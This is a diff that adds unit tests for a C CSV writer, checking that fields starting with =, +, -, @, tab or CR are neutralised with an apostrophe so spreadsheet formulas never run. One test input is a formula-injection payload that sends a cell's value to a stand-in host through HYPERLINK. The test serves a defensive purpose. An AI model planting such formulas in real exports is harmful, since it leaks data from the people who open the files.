@@ -165,6 +165,37 @@ static void test_limits(void)
 	free(text);
 }
 
+/* One field written by csv_write_field, as text. */
+static void writes(const char *text, bool free_text, const char *want, const char *what)
+{
+	char buf[256] = "";
+	FILE *f = fmemopen(buf, sizeof buf - 1, "w");
+	bool pass = f != NULL && csv_write_field(f, text, free_text, '\n');
+	if (f != NULL)
+		fclose(f);
+	pass = pass && strcmp(buf, want) == 0;
+	if (!pass)
+		tap_diag("wrote [%s], want [%s]", buf, want);
+	ok(pass, "%s", what);
+}
+
+/* The client's and the server's exports: spreadsheet formulas never run. */
+static void test_writer(void)
+{
+	writes("Sri Wahyuni", true, "Sri Wahyuni\n", "plain text is written as it is");
+	writes("Jl. A, No. 1", true, "\"Jl. A, No. 1\"\n", "a comma is quoted");
+	writes("kata \"x\"", true, "\"kata \"\"x\"\"\"\n", "a quote is doubled inside quotes");
+	writes("=HYPERLINK(\"http://evil/?\"&A1,\"x\")", true,
+		"\"'=HYPERLINK(\"\"http://evil/?\"\"&A1,\"\"x\"\")\"\n", "= gets an apostrophe");
+	writes("+62 812", true, "\"'+62 812\"\n", "+ gets an apostrophe");
+	writes("-2+3", true, "\"'-2+3\"\n", "- gets an apostrophe");
+	writes("@SUM(A1)", true, "\"'@SUM(A1)\"\n", "@ gets an apostrophe");
+	writes("\t=1", true, "\"'\t=1\"\n", "a tab first gets an apostrophe");
+	writes("\r=1", true, "\"'\r=1\"\n", "a CR first gets an apostrophe (and quotes)");
+	writes("-6.1783160", false, "-6.1783160\n", "a value (a coordinate) stays a number");
+	writes("", true, "\n", "an empty field is empty");
+}
+
 static void make_tmpdir(char *dir, size_t len)
 {
 	const char *top = getenv("top_builddir");
@@ -234,6 +265,7 @@ int main(void)
 	test_syntax();
 	test_errors();
 	test_limits();
+	test_writer();
 	char dir[4200];
 	make_tmpdir(dir, sizeof dir);
 	test_large_file(dir);
